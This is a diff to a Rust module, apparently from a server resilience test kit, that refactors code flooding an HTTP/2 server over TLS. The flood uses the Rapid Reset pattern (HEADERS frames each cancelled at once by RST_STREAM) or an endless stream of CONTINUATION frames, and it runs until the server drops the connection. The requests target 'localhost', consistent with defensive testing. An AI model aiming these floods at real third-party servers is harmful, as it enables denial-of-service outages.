@@ -2,21 +2,15 @@
 
 use std::io::Result;
 
-use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use testkit::frames::{
+    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, block, frame, request,
+};
+use tokio::io::AsyncWriteExt;
 use tokio::net::TcpStream;
 use tokio_rustls::TlsConnector;
 
 use crate::attacks::Attack;
 use crate::wire;
-
-const HEADERS: u8 = 1;
-const RST_STREAM: u8 = 3;
-const SETTINGS: u8 = 4;
-const PING: u8 = 6;
-const CONTINUATION: u8 = 9;
-
-const END_STREAM: u8 = 1;
-const END_HEADERS: u8 = 4;
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 /// CANCEL.
@@ -25,14 +19,10 @@ const TAKEN_BACK: [u8; 4] = [0, 0, 0, 8];
 const PIECE: usize = 50;
 
 /// Floods one connection until the server ends it.
-pub(crate) async fn flood(attack: Attack, stream: TcpStream, tls: &TlsConnector) -> Result<()> {
+pub(crate) async fn flood(attack: Attack, stream: &mut TcpStream, tls: &TlsConnector) -> Result<()> {
     let stream = tls.connect(wire::host()?, stream).await?;
     let (mut read, mut write) = tokio::io::split(stream);
-    let listen = async {
-        let mut reply = vec![0; 4096];
-        while let Ok(1..) = read.read(&mut reply).await {}
-        Ok(())
-    };
+    let listen = async { tokio::io::copy(&mut read, &mut tokio::io::sink()).await.map(drop) };
     let send = async {
         write.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[]), &first(attack)].concat()).await?;
         for start in (0_u32..).step_by(PIECE) {
@@ -51,7 +41,7 @@ pub(crate) async fn flood(attack: Attack, stream: TcpStream, tls: &TlsConnector)
 /// What a flood begins with.
 fn first(attack: Attack) -> Vec<u8> {
     match attack {
-        Attack::Continuation => frame(HEADERS, END_STREAM, 1, &request()),
+        Attack::Continuation => frame(HEADERS, END_STREAM, 1, &read_time()),
         _ => Vec::new(),
     }
 }
@@ -61,7 +51,7 @@ fn nth(attack: Attack, n: u32) -> Vec<u8> {
     let stream = 2 * n + 1;
     match attack {
         Attack::RapidReset => {
-            let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, &request());
+            let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, &read_time());
             [request, frame(RST_STREAM, 0, stream, &TAKEN_BACK)].concat()
         }
         Attack::Continuation => frame(CONTINUATION, 0, 1, &block(&[("x", "y")])),
@@ -69,18 +59,6 @@ fn nth(attack: Attack, n: u32) -> Vec<u8> {
     }
 }
 
-fn request() -> Vec<u8> {
-    block(&[(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/v1/time")])
-}
-
-fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
-    // Our payloads are short.
-    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
-    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
-}
-
-/// Headers as literals without indexing (RFC 7541, section 6.2.2), each text shorter than 127 bytes.
-fn block(headers: &[(&str, &str)]) -> Vec<u8> {
-    let literal = |text: &str| [&[text.len() as u8], text.as_bytes()].concat();
-    headers.iter().flat_map(|(name, value)| [vec![0], literal(name), literal(value)].concat()).collect()
+fn read_time() -> Vec<u8> {
+    block(&request("GET", "/v1/time"))
 }
